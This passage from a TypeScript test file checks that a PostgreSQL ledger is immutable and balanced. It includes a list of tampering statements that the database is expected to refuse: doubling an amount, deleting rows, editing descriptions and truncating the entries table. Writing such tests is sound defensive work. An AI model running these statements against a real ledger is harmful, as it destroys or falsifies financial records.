      for (const [sql, params] of [
        ['UPDATE ledger_entries SET amount = amount * 2 WHERE id = $1', [entry.id]],
        ['DELETE FROM ledger_entries WHERE id = $1', [entry.id]],
        [`UPDATE ledger_transactions SET description = 'edited' WHERE id = $1`, [entry.transaction_id]],
        ['DELETE FROM ledger_transactions WHERE id = $1', [entry.transaction_id]],
        ['TRUNCATE ledger_entries', []],
      ] as const) {
        const err = await refused(sql, [...params]);
        expect(err).toMatchObject({ code: '42501', message: expect.stringMatching(/immutable/) });
      }
      const after = await t.db.query('SELECT amount::text FROM ledger_entries WHERE id = $1', [entry.id]);
      expect(after.rows).toEqual([{ amount: entry.amount }]);
      const tx = await t.db.query('SELECT description FROM ledger_transactions WHERE id = $1', [
        entry.transaction_id,
      ]);
      expect(tx.rows).toHaveLength(1);
      expect(tx.rows[0].description).not.toBe('edited');
    });

    it('refuses an unbalanced transaction at COMMIT and keeps nothing of it', async () => {
      const { rows } = await t.db.query<{ id: string }>(
        `SELECT id FROM ledger_accounts WHERE contract_id = $1 AND kind = 'expense'`,
        [c1.contractId],
      );
      const reference = `unbalanced-${Date.now()}`;
      await t.db.query('BEGIN');
      const tx = await t.db.query<{ id: string }>(
        `INSERT INTO ledger_transactions (kind, reference, description, contract_id)
         VALUES ('invoice', $1, 'unbalanced', $2) RETURNING id`,
        [reference, c1.contractId],
      );
      // accepted while the transaction is open: the check is deferred to COMMIT
      await t.db.query(
        `INSERT INTO ledger_entries (transaction_id, account_id, amount, currency) VALUES ($1, $2, 100, 'KZT')`,
        [tx.rows[0]!.id, rows[0]!.id],
      );
      const err = await refused('COMMIT');
      expect(err).toMatchObject({
        code: '23514',
        constraint: 'ledger_entries_balanced',
        message: expect.stringMatching(/unbalanced/),
      });
      const left = await t.db.query('SELECT 1 FROM ledger_transactions WHERE reference = $1', [reference]);
      expect(left.rows).toHaveLength(0);
      const entries = await t.db.query('SELECT 1 FROM ledger_entries WHERE transaction_id = $1', [
        tx.rows[0]!.id,
      ]);
      expect(entries.rows).toHaveLength(0);
      const { rows: unbalanced } = await t.db.query<{ n: number }>(
        `SELECT count(*)::int AS n FROM (SELECT 1 FROM ledger_entries GROUP BY transaction_id, currency
          HAVING sum(amount) <> 0) x`,
      );
      expect(unbalanced[0]!.n).toBe(0);
    });
  });
});
